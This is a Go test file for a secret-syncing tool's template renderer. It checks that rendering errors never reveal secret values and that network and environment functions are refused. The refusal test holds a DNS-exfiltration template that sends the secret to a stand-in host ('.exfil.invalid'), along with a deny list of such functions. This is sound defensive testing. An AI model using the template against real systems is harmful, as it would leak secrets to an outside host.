package render_test

import (
	"context"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/secretsync/secretsync/render"
)

// Two canaries of the same shape: an error that differs between them, or
// holds either, carries a value.
const (
	canaryA = "LEAKCANARY-q7Zx{(unclosed"
	canaryB = "MEAKCANARY-r8Yw{(unclosed"
)

func checkRedacted(t *testing.T, name, body string) {
	t.Helper()
	_, errA := render.Execute(context.Background(), name, body, map[string]string{"v": canaryA})
	_, errB := render.Execute(context.Background(), name, body, map[string]string{"v": canaryB})
	for _, err := range []error{errA, errB} {
		if err != nil && strings.Contains(err.Error(), "EAKCANARY") {
			t.Fatalf("%s: the error holds the value", body)
		}
	}
	if errA != nil && errB != nil && errA.Error() != errB.Error() {
		t.Fatalf("%s: the error depends on the value: %q vs %q", body, redactCanary(errA.Error()), redactCanary(errB.Error()))
	}
}

// redactCanary masks the two canaries' differing letters, so a failure
// message shows where a value leaked without repeating it.
func redactCanary(s string) string {
	return strings.NewReplacer("L", "?", "M", "?", "q7Zx", "????", "r8Yw", "????").Replace(s)
}

func TestTemplateErrorsCarryNoValue(t *testing.T) {
	funcs := render.TemplateFuncs()
	names := make([]string, 0, len(funcs))
	for n := range funcs {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, fn := range names {
		typ := reflect.TypeOf(funcs[fn])
		// Call it with the value in every argument, alone and piped, so
		// that each function meets the canary.
		args := strings.TrimSpace(strings.Repeat(".v ", typ.NumIn()))
		bodies := []string{"{{ " + fn + " " + args + " }}"}
		if typ.NumIn() > 0 {
			bodies = append(bodies, "{{ .v | "+fn+" "+strings.TrimSpace(strings.Repeat(".v ", typ.NumIn()-1))+" }}",
				"{{ "+fn+" "+strings.TrimSpace(strings.Repeat(`"a" `, typ.NumIn()-1))+" .v }}")
		}
		t.Run(fn+" fails without quoting its input", func(t *testing.T) {
			for _, b := range bodies {
				checkRedacted(t, "data.k", b)
			}
		})
	}
	t.Run("the reported leaks from the safety review stay closed", func(t *testing.T) {
		for _, b := range []string{`{{ mustRegexMatch .v "a" }}`, `{{ mustToDate "2006" .v }}`, `{{ fromJson .v }}`,
			`{{ index (fromYaml .v) "a" }}`, `{{ .v.x }}`, `{{ index .v 99 }}`, `{{ b64dec .v }}`, `{{ pkcs12key .v }}`} {
			checkRedacted(t, "data.k", b)
		}
	})
	t.Run("a failure still names the template, its place and the function", func(t *testing.T) {
		_, err := render.Execute(context.Background(), "data.k", "x\n{{ mustRegexMatch .v \"a\" }}", map[string]string{"v": canaryA})
		if err == nil || !strings.Contains(err.Error(), "data.k: line 2") || !strings.Contains(err.Error(), "function mustRegexMatch failed") {
			t.Fatalf("err = %v", err)
		}
	})
}

func TestNetworkAndEnvironmentFunctionsAreRefused(t *testing.T) {
	for _, fn := range []string{"getHostByName", "env", "expandenv", "fail"} {
		t.Run(fn+" is refused by name", func(t *testing.T) {
			_, err := render.ParseTemplate("data.k", `{{ `+fn+` (printf "%s.exfil.invalid" .v) }}`)
			if err == nil || !strings.Contains(err.Error(), "function "+fn+" is not allowed") {
				t.Fatalf("err = %v", err)
			}
		})
	}
}

// FuzzTemplateExecute runs seed templates over any value: no error may
// hold the value.
func FuzzTemplateExecute(f *testing.F) {
	f.Add(`{{ mustRegexMatch .v "a" }}`, canaryA)
	f.Add(`{{ fromJson .v }}`, `{"a":`)
	f.Add(`{{ mustToDate "2006" .v }}`, "LEAK-2006x")
	f.Add(`{{ (fromYaml .v).a.b }}`, "a: [unclosed")
	f.Add(`{{ index .v 3 }}`, "secretvalue")
	f.Add(`{{ b64dec .v | fromJson }}`, "bm90LWpzb24=")
	f.Fuzz(func(t *testing.T, body, value string) {
		if len(value) < 8 || strings.Contains(body, value) {
			return
		}
		_, err := render.Execute(context.Background(), "data.k", body, map[string]string{"v": value})
		if err == nil {
			return
		}
		// The same template over another value gives the text that is not
		// the value's; the value itself must not be in the error.
		_, other := render.Execute(context.Background(), "data.k", body, map[string]string{"v": strings.Repeat("\x00", len(value))})
		if strings.Contains(err.Error(), value) && (other == nil || !strings.Contains(other.Error(), value)) {
			t.Fatalf("the error holds the %d-byte value", len(value))
		}
	})
}
